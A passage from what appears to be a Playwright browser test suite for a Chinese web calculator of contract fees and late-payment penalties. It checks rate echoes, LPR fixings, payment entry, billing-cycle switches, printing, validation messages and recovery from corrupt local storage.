      assertEq(await page.locator('[data-testid=rate-echo]').getAttribute('class'), 'echo rate-echo caution', 'below 1× is a caution');
      // A negative multiple is refused beside the field; the echo, empty, warns of nothing.
      await multiple.fill('-1');
      await page.waitForFunction(() => document.querySelector('[data-testid=rate-echo]')?.textContent === '');
      assertEq(await page.locator('[data-testid=rate-echo]').getAttribute('class'), 'echo rate-echo', 'no caution for an empty echo');
      await multiple.fill('１．５倍');
      await expectText(page, '[data-testid=rate-echo]', 'LPR 的 1.5 倍（上浮 50%）');
      assertEq(await page.locator('[data-testid=rate-echo]').getAttribute('class'), 'echo rate-echo', 'above 1× is no caution');
      await page.waitForFunction((b) => document.querySelector('[data-testid=late-penalty]')?.textContent?.trim() !== b, before);
      const floating = (await page.locator(PENALTY).textContent()).trim();
      // As of today the LPR runs past the table: add the user's fixing of 2.90% from 2026-05-20.
      // The row comes blank, and a blank row is no fixing: the figures stand, nothing is asked.
      await page.getByTestId('add-lpr-fixing').click();
      assertEq(await field(page, 'late_payment.lpr_fixings[0].one_year').inputValue(), '', 'a new LPR row is blank');
      await page.waitForTimeout(150);
      assertEq(await page.getByTestId('stale').count(), 0, 'a blank LPR row stops no figures');
      await field(page, 'late_payment.lpr_fixings[0].effective').fill('2026-05-20');
      await expectText(page, '#f-late_payment-lpr_fixings-0--one_year-err', '请填写年利率百分数（0 至 100），如 3.00 即 3.00%');
      await field(page, 'late_payment.lpr_fixings[0].one_year').fill('2.90');
      await page.waitForFunction((b) => document.querySelector('[data-testid=late-penalty]')?.textContent?.trim() !== b, floating);
      await page.locator('[data-testid=warnings] li[data-code=lpr_beyond_table]').waitFor();
      // 月利率1.28%.
      await page.getByTestId('preset-monthly').click();
      await expectText(page, '[data-testid=rate-echo]', '月百分之一点二八 = 1.28%/月 = 年15.36%');
      assertEq(await page.locator('[data-testid=rate-echo]').getAttribute('class'), 'echo rate-echo', '15.36% a year is no caution');
      // 128% a month, a unit mistaken: over 100% a year, echoed as a caution.
      await field(page, 'late_payment.rate.fraction').fill('128');
      await page.waitForFunction(() => document.querySelector('[data-testid=rate-echo]')?.textContent?.endsWith('年1536%：年化超过 100%，请核对单位（过高的违约金法院通常会调减）'));
      assertEq(await page.locator('[data-testid=rate-echo]').getAttribute('class'), 'echo rate-echo caution', 'over 100% a year is a caution');
      // 2000% a month is past the largest rate taken: refused in the field's unit, and no echo
      // reads it as taken.
      await field(page, 'late_payment.rate.fraction').fill('2000');
      await expectText(page, '#f-late_payment-rate-fraction-err', '“2000%”过大：最多 1000%');
      await page.waitForFunction(() => document.querySelector('[data-testid=rate-echo]')?.textContent?.trim() === '');
      await field(page, 'late_payment.rate.fraction').fill('1.28');
      await expectText(page, '[data-testid=rate-echo]', '月百分之一点二八 = 1.28%/月 = 年15.36%');
      // 累计不超过合同总金额的30% and 以逾期付款总额的5%为上限 set the cap and its base.
      await page.getByTestId('preset-cap-total').click();
      assertEq(await field(page, 'late_payment.cap_fraction').inputValue(), '30', 'cap');
      assertEq(await page.locator('#f-late_payment-cap_base option:checked').textContent(), '合同总金额（累计）', 'cap base');
      await expectText(page, '[data-testid=cap-echo]', '违约金累计不超过合同总金额的 30%');
      // "0.2", as a document writes 20%, is 0.2% here: echoed, with a caution.
      await field(page, 'late_payment.cap_fraction').fill('0.2');
      await expectText(page, '[data-testid=cap-echo]', '违约金累计不超过合同总金额的 0.2%：低于 1%，请核对（约定“20%”应输入 20）');
      assertEq(await page.locator('[data-testid=cap-echo]').getAttribute('class'), 'echo caution', 'a cap below 1% is a caution');
      await field(page, 'late_payment.cap_fraction').fill('30');
      await page.getByTestId('preset-cap-overdue').click();
      assertEq(await field(page, 'late_payment.cap_fraction').inputValue(), '5', 'cap');
      assertEq(await page.locator('#f-late_payment-cap_base option:checked').textContent(), '逾期付款总额（累计）', 'cap base');
      // Counting to the day before payment lowers the penalty; accrual from a filing date too.
      await page.getByTestId('preset-monthly').click();
      await page.locator('#f-late_payment-cap_fraction').fill('');
      const monthly = (await page.locator(PENALTY).textContent()).trim();
      await page.selectOption('#f-late_payment-day_count', { label: '至付款前一日（不含付款日）' });
      await page.waitForFunction((b) => document.querySelector('[data-testid=late-penalty]')?.textContent?.trim() !== b, monthly);
      await field(page, 'late_payment.accrues_from').fill('2026-01-01');
      await page.waitForFunction((b) => document.querySelector('[data-testid=late-penalty]')?.textContent?.trim() !== b, monthly);
    },
  },
  {
    name: 'an LPR fixed on a stated date, as a judgment gives it, shows as such and is kept while other fields change',
    async run({ page, url }) {
      // The court example with its LPR taken on 2024-01-02 (3.45%), not floating and not the due
      // date's (3.65%): the form offers no such choice, so the choice reads "as in the file".
      const doc = JSON.parse(fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8'));
      doc.late_payment.rate.lpr_fixing = '2024-01-02';
      await page.goto(`${url}#${fragmentOf(JSON.stringify(doc))}`);
      await page.locator('#shell').waitFor({ state: 'detached' });
      const fixing = page.locator('#f-late_payment-rate-lpr_fixing option:checked');
      assertEq((await fixing.textContent()).trim(), '按文件中的约定（未在此列出）', 'the LPR fixing shown');
      const stated = (await page.locator(PENALTY).textContent()).trim();
      assert(stated !== '¥18,475.56', `a fixed LPR gives another penalty than the floating one, got ${stated}`);
      // Another field changes: the stated day stays, and so do the figures.
      await field(page, 'name').fill('判决书的 LPR 取值日');
      await expectText(page, NAME, '判决书的 LPR 取值日');
      await expectText(page, PENALTY, stated);
      assertEq((await fixing.textContent()).trim(), '按文件中的约定（未在此列出）', 'the LPR fixing after an edit');
      // Choosing the due date replaces it (3.65% from 2023-05-15).
      await page.selectOption('#f-late_payment-rate-lpr_fixing', { label: '到期日' });
      await page.waitForFunction((b) => document.querySelector('[data-testid=late-penalty]')?.textContent?.trim() !== b, stated);
    },
  },
  {
    name: 'a rate that changes on a date is typed in the form and splits the breakdown (the court example)',
    async run({ page, url }) {
      // ¥320,000 due 2023-05-15, unpaid on 2025-01-14, floating one-year LPR / 360: ¥18,475.56.
      const court = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
      await page.goto(`${url}#${fragmentOf(court)}`);
      await page.locator('#shell').waitFor({ state: 'detached' });
      await expectText(page, PENALTY, '¥18,475.56');
      // From 2024-10-21 日万分之五: the last 86 days are 86 × 320,000 × 0.05% = ¥13,760.00 instead
      // of ¥2,369.78, so ¥29,865.78 in all.
      await page.getByTestId('add-rate-change').click();
      const row = page.getByTestId('rate-change').first();
      await field(page, 'late_payment.rate_changes[0].from').fill('2024-10-21');
      await page.selectOption('#f-late_payment-rate_changes-0--rate-kind', { label: '按日比例' });
      assertEq(await field(page, 'late_payment.rate_changes[0].rate.fraction').inputValue(), '5', 'the new rate, 5 in ‱');
      await expectText(page, PENALTY, '¥29,865.78');
      // The new rate is echoed as the clause's own is; in the wrong unit (5% a day) it is a
      // caution, not an unsaid ¥8,815,000.00.
      const changeEcho = '[data-testid=rate-change] [data-testid=rate-change-echo]';
      await expectText(page, changeEcho, '日万分之五 = 0.05%/日 = 年18.25%');
      await page.selectOption('#f-late_payment-rate_changes-0--rate-unit', { index: 0 });
      await page.waitForFunction((sel) => document.querySelector(sel)?.textContent?.endsWith('年化超过 100%，请核对单位（过高的违约金法院通常会调减）'), changeEcho);
      assert(await page.locator(changeEcho).evaluate((e) => e.classList.contains('caution')), 'the echo of 5% a day is a caution');
      await page.selectOption('#f-late_payment-rate_changes-0--rate-unit', { index: 2 });
      await expectText(page, PENALTY, '¥29,865.78');
      // A second row starts as the rate in force from the day after the evaluation date: nothing
      // changes until it is edited. A date out of order is named at its field, and the last
      // figures stay.
      await page.getByTestId('add-rate-change').click();
      assertEq(await field(page, 'late_payment.rate_changes[1].from').inputValue(), '2025-01-15', 'the second row\'s date: after the evaluation date');
      await expectText(page, PENALTY, '¥29,865.78');
      await field(page, 'late_payment.rate_changes[1].from').fill('2024-10-01');
      await page.waitForFunction(() => document.querySelector('#f-late_payment-rate_changes-1--from-err')?.textContent?.trim());
      await expectText(page, PENALTY, '¥29,865.78');
      await page.getByTestId('rate-change').nth(1).getByRole('button', { name: '删除此变更' }).click();
      await expectText(page, PENALTY, '¥29,865.78');
      await row.getByRole('button', { name: '删除此变更' }).click();
      await expectText(page, PENALTY, '¥18,475.56');
    },
  },
  {
    name: 'June paid 45 days late takes three inputs, and the payment counts for June; what it cannot add, or would pay twice, it says',
    async run({ page, url }) {
      await openApp(page, url);
      const rows = page.locator('[data-path$=".amount"][data-path^="payment.payments"]');
      const n = await rows.count();
      const problem = page.getByTestId('quick-problem');
      await page.getByTestId('quick-add').click();
      await expectText(page, '[data-testid=quick-problem]', '请先选择是哪一期的付款');
      await page.selectOption('[data-testid=quick-period]', { label: '2025-06' });
      for (const days of ['-5', 'abc', '', '99999']) {
        await page.getByTestId('quick-days').fill(days);
        await page.getByTestId('quick-add').click();
        await expectText(page, '[data-testid=quick-problem]', '迟付天数应为 0 至 3660 之间的整数');
      }
      assertEq(await rows.count(), n, 'no payment added by what could not be read');
      // While a field is wrong the periods shown are the last good figures': nothing is added.
      await field(page, FEE0).fill('abc');
      await page.getByTestId('quick-days').fill('45');
      await page.getByTestId('quick-add').click();
      await expectText(page, '[data-testid=quick-problem]', '请先改正标红的输入，再用快速录入');
      assertEq(await rows.count(), n, 'no payment added while a field is wrong');
      await field(page, FEE0).fill('45000');
      await page.getByTestId('quick-days').fill('45');
      await page.getByTestId('quick-add').click();
      await page.waitForFunction((k) => document.querySelectorAll('[data-path^="payment.payments"][data-path$=".amount"]').length === k + 1, n);
      assertEq((await problem.textContent()).trim(), '', 'the problem is gone once the payment is added');
      // Due 2025-07-10, paid 45 days later on 2025-08-24, for June (Art. 560 ¶1).
      assertEq(await field(page, `payment.payments[${n}].date`).inputValue(), '2025-08-24', 'payment date');
      assertEq(await field(page, `payment.payments[${n}].amount`).inputValue(), '50000.00', 'amount');
      assertEq(await field(page, `payment.payments[${n}].for`).inputValue(), '2025-06-01', 'for June (its first day)');
      await page.locator('[data-card=late-penalty] > summary').click();
      const claim = await page.getByTestId('claim-table').locator('tbody tr').allTextContents();
      // 50,000 × 0.05% × 45 = ¥1,125.00, from 2025-07-11 to 2025-08-24.
      assert(claim.some((r) => r.includes('2025-06-01 – 2025-06-30') && r.includes('2025-07-11') && r.includes('2025-08-24') && r.includes('¥1,125.00')),
        `claim rows: ${JSON.stringify(claim)}`);
      // June is paid now: the same entry again would pay it twice, and says so instead.
      await page.getByTestId('quick-add').click();
      await expectText(page, '[data-testid=quick-problem]', `该期费用已由上方付款记录中的第 ${n + 1} 笔（2025-08-24，¥50,000.00）付清：要模拟它逾期支付，请修改这笔付款的日期，而不是再添加一笔`);
      assertEq(await rows.count(), n + 1, 'no second payment for June');
      // Evaluated on 2025-08-01, before that payment: it counts in no figure, but June is paid
      // by it all the same, and the entry says so again rather than pay June twice.
      await field(page, 'as_of').fill('2025-08-01');
      await page.getByTestId('quick-add').click();
      await page.waitForTimeout(100);
      assertEq(await rows.count(), n + 1, 'no second payment for June, paid after the evaluation date');
      await expectText(page, '[data-testid=quick-problem]', `该期费用已由上方付款记录中的第 ${n + 1} 笔（2025-08-24，¥50,000.00）付清：要模拟它逾期支付，请修改这笔付款的日期，而不是再添加一笔`);
      // The same payment with no period named pays May, the earliest fee then unpaid (§3): May
      // paid late would pay it twice, and is refused the same way.
      await field(page, `payment.payments[${n}].for`).fill('');
      await page.selectOption('[data-testid=quick-period]', { label: '2025-05' });
      await page.getByTestId('quick-add').click();
      await page.waitForTimeout(100);
      assertEq(await rows.count(), n + 1, 'no second payment for May, paid after the evaluation date with no period named');
      await expectText(page, '[data-testid=quick-problem]', `该期费用已由上方付款记录中的第 ${n + 1} 笔（2025-08-24，¥50,000.00）付清：要模拟它逾期支付，请修改这笔付款的日期，而不是再添加一笔`);
    },
  },
  {
    name: 'a payment dated after the evaluation date is said to count in no figure',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, 'as_of').fill('2025-09-30');
      const penalty = (await page.locator(PENALTY).textContent()).trim();
      // The last payment, ¥70,000 on 2025-05-30, typed as 2025-10-15: after 2025-09-30.
      await field(page, 'payment.payments[3].date').fill('2025-10-15');
      const note = page.getByTestId('after-as-of-note');
      await note.waitFor();
      assert((await note.textContent()).includes('有 1 笔付款晚于计算截至日，本页数字未计入'), await note.textContent());
      assert((await page.locator(PENALTY).textContent()).trim() !== penalty, 'the penalty without that payment');
      await field(page, 'payment.payments[3].date').fill('2025-05-30');
      await note.waitFor({ state: 'detached' });
      await expectText(page, PENALTY, penalty);
    },
  },
  {
    name: 'switching monthly to quarterly says the amounts stay per cycle and offers to keep the total',
    async run({ page, url }) {
      await openApp(page, url);
      // A payment for May: by the quarter, it is for the quarter from 1 April (no period starts
      // on 1 May any more, which stopped every figure).
      await field(page, 'payment.payments[2].for').fill('2025-05');
      await page.selectOption('#f-fees-cycle', { label: '按季度' });
      // ¥50,000 now per quarter: four quarters make ¥200,000, and the note says so.
      await expectText(page, TOTAL, '¥200,000.00');
      assertEq(await field(page, 'payment.payments[2].for').inputValue(), '2025-04-01', 'the payment\'s period by the quarter');
      assertEq(await page.getByTestId('stale').count(), 0, 'nothing to fix after the switch');
      // The quick entry and every row's 抵充哪一期 suggestions offer the quarters now.
      const options = (sel) => page.evaluate((s) => [...document.querySelectorAll(s)].map((o) => o.value).filter(Boolean).join(','), sel);
      assertEq(await options('#f-quick-period option'), '2025-01-01,2025-04-01,2025-07-01,2025-10-01', 'the quick entry\'s periods');
      assertEq(await options('#billed-periods option'), '2025-01-01,2025-04-01,2025-07-01,2025-10-01', 'the suggested periods');
      const note = page.getByTestId('cycle-note');
      assert((await note.textContent()).includes('合同总金额现为 ¥200,000.00'), await note.textContent());
      // The payment's move is said, not left to be found in the breakdown.
      assert((await note.textContent()).includes('指定抵充某一期的付款，现改为抵充新周期中包含该日的那一期'), await note.textContent());
      await page.getByTestId('convert-cycle').click();
      await expectText(page, TOTAL, STARTER_TOTAL);
      assertEq(await field(page, FEE0).inputValue(), '135000.00', 'the base fee a quarter');
      // Twelve whole months are four whole quarters: the total is the same, nothing more to say.
      await note.waitFor({ state: 'detached' });
      // A quarter picked in the quick entry is taken (it said "pick a period first").
      const payments = () => page.locator('[data-path^="payment.payments"][data-path$=".amount"]').count();
      const before = await payments();
      await page.selectOption('[data-testid=quick-period]', { label: '2025年第2季度' });
      await page.getByTestId('quick-add').click();
      assertEq(await payments(), before + 1, 'payments after the quick entry');
      assertEq((await page.getByTestId('quick-problem').textContent()).trim(), '', 'the quick entry\'s message');
      // Back to monthly, the payment is for May again, as designated, not for April.
      await page.selectOption('#f-fees-cycle', { label: '按月' });
      await page.waitForFunction(() => document.querySelector('[data-path="payment.payments[2].for"]')?.value === '2025-05-01');
      await page.getByTestId('convert-cycle').click();
      await expectText(page, TOTAL, STARTER_TOTAL);
      // ¥100,000 a year (95,000 + 5,000) restated by the month is 7,916.67 + 416.67 = 8,333.34,
      // twelve of which are ¥100,000.08: the total moved, and the note says by how much.
      await page.selectOption('#f-fees-cycle', { label: '按年' });
      await page.getByRole('button', { name: '保持金额不变' }).click();
      await field(page, FEE0).fill('95000');
      await expectText(page, TOTAL, '¥100,000.00');
      await page.selectOption('#f-fees-cycle', { label: '按月' });
      await page.getByTestId('convert-cycle').click();
      await expectText(page, TOTAL, '¥100,000.08');
      await expectText(page, '[data-testid=cycle-note] p', '已换算。合同总金额由 ¥100,000.00 变为 ¥100,000.08：不足一期的期间按日折算、金额取整到分，换算后合计未必相等，请核对。');
      await note.getByRole('button', { name: '知道了' }).click();
      await note.waitFor({ state: 'detached' });
    },
  },
  {
    name: 'a draft reloaded later says its figures are as of the stated date and updates to today on request',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, 'as_of').fill('2025-09-30');
      await page.getByTestId('as-of-note').waitFor();
      const then = (await page.locator(PENALTY).textContent()).trim();
      await page.waitForTimeout(400);
      await reloadApp(page);
      await expectText(page, PENALTY, then);
      const note = page.getByTestId('as-of-note');
      assert((await note.textContent()).includes('本页数字截至2025年9月30日（计算截至日）'), await note.textContent());
      await page.getByTestId('update-to-today').click();
      await note.waitFor({ state: 'detached' });
      const today = await page.evaluate(() => {
        const d = new Date();
        return `${d.getFullYear()}-${String(d.getMonth() + 1).padStart(2, '0')}-${String(d.getDate()).padStart(2, '0')}`;
      });
      assertEq(await field(page, 'as_of').inputValue(), today, 'as of today');
    },
  },
  {
    name: 'the small things users hit: termination date, negative days, European amounts, skip link, Esc, cured rights',
    async run({ page, url }) {
      await openApp(page, url);
      // A skip link leads from the top to the figures.
      await page.keyboard.press('Tab');
      const skip = page.getByTestId('skip-to-results');
      assertEq(await skip.evaluate((e) => document.activeElement === e), true, 'the first Tab reaches the skip link');
      assertEq(await skip.getAttribute('href'), '#results', 'skip link target');
      // Ticking 提前终止 starts from a valid date: no "“”不是日期".
      await page.locator('#f-term-on').check();
      await page.getByTestId('termination-card').waitFor();
      assertEq((await page.locator('#f-termination-date-err').textContent()).trim(), '', 'no date error');
      // The phone's sticky bar carries the settlement too.
      await page.getByTestId('summary-settlement').waitFor({ state: 'attached' });
      // …with who pays whom, as the card says it: a client must not read it as owed by them.
      const direction = (await page.getByTestId('summary-settlement').locator('small').textContent()).trim();
      assert(/^终止结算 (甲方 → 乙方|乙方 → 甲方)$/.test(direction), `the bar's settlement label: ${direction}`);
      assert((await page.getByTestId('termination-card').textContent()).includes(direction.slice(5)), 'the bar and the card agree');
      await page.locator('#f-term-on').uncheck();
      // "-1" days says it is negative; "86.000,00" is not read as ¥86.
      await field(page, 'late_payment.suspend_after_days').fill('-1');
      await page.waitForFunction(() => document.querySelector('#f-late_payment-suspend_after_days-err')?.textContent?.includes('负数'));
      await field(page, 'late_payment.suspend_after_days').fill('30');
      await field(page, FEE0).fill('86.000,00');
      await page.waitForFunction(() => document.querySelector('#f-fees-components-0--amount-err')?.textContent?.includes('不是金额'));
      await field(page, FEE0).fill('45000');
      await expectText(page, TOTAL, STARTER_TOTAL);
      // Esc closes the share dialog.
      await page.getByTestId('copy-link').click();
      await page.getByTestId('share-panel').waitFor();
      await page.keyboard.press('Escape');
      await page.getByTestId('share-panel').waitFor({ state: 'detached' });
      // A right long cured is history: with everything paid by 2025-12-31 the suspension right
      // of May 2025 is told in the past.
      await field(page, 'as_of').fill('2025-12-31');
      await page.getByTestId('add-payment').click();
      const n = (await page.locator('[data-path^="payment.payments"][data-path$=".amount"]').count()) - 1;
      await field(page, `payment.payments[${n}].date`).fill('2025-12-31');
      await field(page, `payment.payments[${n}].amount`).fill('400000');
      await page.waitForFunction(() => document.querySelector('[data-card=late-penalty] .figure-note')?.textContent?.includes('曾于'));
    },
  },
  {
    name: 'the print carries the 计算明细 and the payments',
    async run({ page, url }) {
      await openApp(page, url);
      await field(page, 'as_of').fill('2025-09-30');
      await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
      await page.emulateMedia({ media: 'print' });
      const claim = page.locator('.print-only [data-testid=claim-table]');
      await claim.waitFor();
      const rows = await claim.locator('tbody tr').allTextContents();
      assert(rows.some((r) => r.includes('2025-04-11') && r.includes('2025-05-30') && r.includes('¥500.00')), JSON.stringify(rows));
      const pays = await page.locator('.print-only [data-testid=payments-table] tbody tr').count();
      assertEq(pays, 4, 'the four payments');
      assertEq(await page.locator('.print-only [data-testid=copy-claim]').isVisible(), false, 'no copy button on paper');
      // The what-if's input is no form on paper (the terms carry its figure).
      assertEq(await page.getByTestId('what-if').isVisible(), false, 'the what-if on paper');
      // Terminated, the settlement prints line by line: the termination penalty's share and
      // amount, not only the net, whether or not its card is open on screen.
      await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
      await page.emulateMedia({ media: 'screen' });
      await page.locator('#f-term-on').check();
      await field(page, 'termination.date').fill('2025-07-31');
      await page.selectOption('#f-termination-reason', { label: '甲方违约' });
      await field(page, 'termination.breach_penalty_fraction').fill('20');
      await page.getByTestId('termination-card').waitFor();
      await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
      await page.emulateMedia({ media: 'print' });
      const settled = page.locator('.print-only [data-testid=settlement-table]');
      await settled.waitFor();
      const lines = (await settled.locator('tr').allTextContents()).map((t) => t.trim());
      assert(lines.some((l) => l.startsWith('加：甲方违约解除违约金（合同总金额 ¥600,000.00 × 20%）') && l.endsWith('+ ¥120,000.00')), JSON.stringify(lines));
      // A field wrong: the paper says its figures are the last valid input's, as the screen does,
      // and a link made then says it carries that input.
      await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
      await page.emulateMedia({ media: 'screen' });
      await field(page, FEE0).fill('abc');
      await page.getByTestId('stale').waitFor();
      await page.evaluate(() => window.dispatchEvent(new Event('beforeprint')));
      await page.emulateMedia({ media: 'print' });
      assert(await page.getByTestId('stale').isVisible(), 'the stale note on paper');
      await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));
      await page.emulateMedia({ media: 'screen' });
      await page.getByTestId('copy-link').click();
      await expectText(page, '[data-testid=link-of-last-valid]', '表单中有输入需要修改：此链接按最后一次有效的输入生成，与正在输入的内容不同。');
      await page.keyboard.press('Escape');
      // Export says why it exports nothing, rather than nothing.
      await page.locator('[data-action=export]').first().click();
      await expectBanner(page, '表单中有输入需要修改，未导出：请先改正标红的字段。');
    },
  },
  {
    name: 'the list of problems names each field; typing a year flashes no error, an impossible date left behind is refused; early payments are pointed out',
    async run({ page, url }) {
      await openApp(page, url);
      // Typed key by key over 45000, "1e5" passes through "1", a valid amount: once it is wrong,
      // the figures kept are those of when the field took the focus, not the passing ¥12.00…
      await field(page, FEE0).click();
      await field(page, FEE0).press('Control+a');
      await page.keyboard.type('1e5');
      await page.getByTestId('stale').waitFor();
      await expectText(page, TOTAL, STARTER_TOTAL);
      await field(page, FEE0).fill('八万六千');
      await page.getByTestId('stale').waitFor();
      const item = (await page.getByTestId('stale').locator('li').first().textContent()).trim();
      assert(item.startsWith('费用构成第 1 行 · 每期金额：“八万六千”不是金额'), item);
      // Two rows' fields of the same name are told apart by their rows.
      await field(page, 'fees.components[1].amount').fill('五千');
      await expectText(page, '[data-testid=stale] li:nth-child(2)', '费用构成第 2 行 · 每期金额：“五千”不是金额：请输入如 50000、50,000、50000.00 或 5万');
      await field(page, 'fees.components[1].amount').fill('5000');
      await field(page, FEE0).fill('45000');
      await page.getByTestId('stale').waitFor({ state: 'detached' });
      // Typing a year digit by digit into the start date: no error on the way.
      const start = field(page, 'contract.start');
      await start.click();
      await start.press('ArrowRight');
      await start.press('ArrowRight');
      for (const d of '2026') {
        await start.press(d);
        assertEq(await page.getByTestId('stale').count(), 0, `no stale note after typing ${d}`);
      }
      // (The browser may take each slow keystroke as a new year, 0006; left so, it is refused.)
      await start.fill('2025-01-01');
      // The end date's month cleared (--/31/2025, which the browser cannot read) and the field
      // left: refused, not kept silently at the date it held before.
      const end = field(page, 'contract.end');
      await end.focus();
      await end.press('Backspace');
      assert(await end.evaluate((e) => e.value === '' && e.validity.badInput), 'a part of the date is cleared');
      assertEq(await page.getByTestId('stale').count(), 0, 'no stale note while the date is being typed');
      await page.keyboard.press('Shift+Tab');
      await page.getByTestId('stale').waitFor();
      const unfinished = (await page.getByTestId('stale').locator('li').first().textContent()).trim();
      assert(unfinished.startsWith('服务结束日：日期不完整或不存在'), unfinished);
      await field(page, 'contract.end').fill('2025-12-31');
      await page.getByTestId('stale').waitFor({ state: 'detached' });
      await expectText(page, TOTAL, STARTER_TOTAL);
      // Every part of the evaluation date cleared one by one (a phone's "清除" does the same): the
      // browser sends no input for the last part; the field left empty is refused by name, not
      // kept silently at 2025-09-30 in the figures, the draft and the link.
      const asOf = field(page, 'as_of');
      await asOf.focus();
      for (const k of ['Backspace', 'Tab', 'Backspace', 'Tab', 'Backspace']) await asOf.press(k);
      assert(await asOf.evaluate((e) => e.value === '' && !e.validity.badInput), 'every part of the date is cleared');
      await field(page, 'name').click();
      await page.getByTestId('stale').waitFor();
      const cleared = (await page.getByTestId('stale').locator('li').first().textContent()).trim();
      assertEq(cleared, '计算截至日：请选择日期', 'the cleared date');
      await asOf.fill('2025-09-30');
      await page.getByTestId('stale').waitFor({ state: 'detached' });
      // 02/30 typed over 12/31: on the way the day's "3" makes 2025-02-03 for a moment, which
      // the draft is autosaved with; then "30" is no date. The form goes back to 2025-12-31:
      // the figures kept and the draft are the user's own date, not the passing one.
      await end.focus();
      for (const k of '023') await end.press(k);
      assertEq(await end.inputValue(), '2025-02-03', 'the passing date');
      await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('"end":"2025-02-03"'), 'the passing date autosaved');
      await end.press('0');
      await expectText(page, TOTAL, STARTER_TOTAL);
      await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('"end":"2025-12-31"'), 'the draft back at the date before');
      await end.fill('2025-12-31');
      // A 2027 term keeps the sample's 2025 payments only as advance payments, and says so.
      await field(page, 'contract.start').fill('2027-01-01');
      await field(page, 'contract.end').fill('2027-12-31');
      const note = page.getByTestId('prepayment-note');
      assert((await note.textContent()).includes('有 4 笔付款早于服务开始日'), await note.textContent());
      await page.getByTestId('drop-early-payments').click();
      await note.waitFor({ state: 'detached' });
      assertEq(await page.locator('[data-path^="payment.payments"][data-path$=".amount"]').count(), 0, 'payments left');
    },
  },
  {
    name: 'a breakdown opens from the keyboard and keeps the focus on its heading',
    async run({ page, url }) {
      await openApp(page, url);
      const summary = page.locator('[data-card=contract-total] > summary');
      await summary.focus();
      await page.keyboard.press('Enter');
      await page.getByTestId('cycle-table').waitFor({ state: 'visible' });
      // 2025 in twelve monthly rows.
      assertEq(await page.locator('[data-testid=cycle-table] tbody tr').count(), 12, 'cycle rows');
      await page.waitForFunction(() => document.activeElement?.parentElement?.dataset?.card === 'contract-total');
      await page.keyboard.press('Enter');
      await page.getByTestId('cycle-table').waitFor({ state: 'detached' });
      // Typing with the table open updates it in place.
      await summary.click();
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await expectText(page, '[data-testid=cycle-table] tbody tr:first-child td:nth-child(2)', '¥45,000.00');
    },
  },
  {
    name: 'a scenario too large for a link says so and offers the file, instead of a link no one can open',
    async run({ page, url }) {
      await openApp(page, url);
      // 800 fee components of 100 letters that do not compress: an 80,000-character link.
      let seed = 7;
      const letters = () => Array.from({ length: 100 }, () => {
        seed = (seed * 48271) % 2147483647;
        return String.fromCharCode(97 + (seed % 26));
      }).join('');
      const doc = JSON.parse(cli(['sample', 'starter']));
      doc.name = '八百项费用';
      doc.fees.components = Array.from({ length: 800 }, () => ({ label: letters(), amount: '100.00' }));
      await page.locator('#f-import').setInputFiles({ name: 'big.json', mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(doc)) });
      await expectText(page, NAME, '八百项费用');
      await page.getByTestId('copy-link').click();
      const panel = page.getByTestId('share-panel');
      await panel.waitFor();
      await page.waitForFunction(() => document.querySelector('[data-testid=share-panel] p')?.textContent !== '…');
      const said = (await panel.locator('p').first().textContent()).trim();
      assert(/^方案太大，无法放进链接：链接将有 [\d,]+ 个字符，超过可打开的 65,536 个。请用“导出”把方案文件发给对方。$/.test(said), said);
      assertEq(await page.getByTestId('link-text').inputValue(), '', 'the link offered');
      assertEq(await page.getByTestId('link-text').isVisible(), false, 'an empty link box');
    },
  },
  {
    name: 'leaving a linked scenario with New keeps it as a draft instead of dropping the edits',
    async run({ page, url, newPage }) {
      await openApp(page, url);
      await field(page, 'name').fill('对方方案');
      await page.getByTestId('copy-link').click();
      const link = await page.getByTestId('link-text').inputValue();
      const fresh = await newPage();
      await fresh.goto(link);
      await expectText(fresh, NAME, '对方方案');
      await field(fresh, FEE0).fill('40000');
      await expectText(fresh, TOTAL, '¥540,000.00');
      await fresh.getByTestId('new-scenario').click();
      await expectText(fresh, NAME, STARTER_NAME);
      await fresh.getByTestId('toggle-list').click();
      assertEq(JSON.stringify(await savedNames(fresh)), JSON.stringify(['对方方案（草稿）']), 'drafts');
      await fresh.locator('[data-testid=saved-list] li', { hasText: '对方方案（草稿）' }).getByTestId('open-saved').click();
      await expectText(fresh, TOTAL, '¥540,000.00');
      assertEq(await fresh.evaluate(() => location.hash), '', 'the link fragment after leaving it');
    },
  },
  {
    name: 'corrupt local storage is set aside byte for byte, offered for download, and the app starts',
    async run({ page, url }) {
      const raw = '{"format":';
      await page.addInitScript(([key, value]) => {
        if (!sessionStorage.getItem('seeded')) {
          localStorage.setItem(key, value);
          sessionStorage.setItem('seeded', '1');
        }
      }, [WORKING_KEY, raw]);
      await openApp(page, url);
      await expectText(page, TOTAL, STARTER_TOTAL);
      await expectText(page, NAME, STARTER_NAME);
      // The banner says which entry: the autosaved draft.
      const banner = await expectBanner(page, '本机自动保存的草稿无法读取');
      const store = await storage(page);
      const keys = Object.keys(store).filter((k) => k.startsWith(QUARANTINE_PREFIX));
      assertEq(keys.length, 1, `quarantined entries (${JSON.stringify(keys)})`);
      assert(keys[0].startsWith(`${QUARANTINE_PREFIX}${WORKING_KEY}@`), `quarantine key ${keys[0]}`);
      assertEq(store[keys[0]], raw, 'the quarantined text');
      const dl = await clickForDownload(page, banner.getByTestId('download-quarantined'));
      assertEq(await downloadText(dl), raw, 'the downloaded text');
      assert(dl.suggestedFilename().endsWith('.json'), `download name ${dl.suggestedFilename()}`);
      // The app works on: a change is computed and autosaved over the (now free) working key.
      await field(page, FEE0).fill('55000');
      await expectText(page, TOTAL, '¥720,000.00');
      await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('55000'), 'the new working scenario');
      assertEq((await storage(page))[keys[0]], raw, 'the quarantined text after autosave');
      // The next start does not report it again as new, and does not lose it.
      await reloadApp(page);
      await expectText(page, TOTAL, '¥720,000.00');
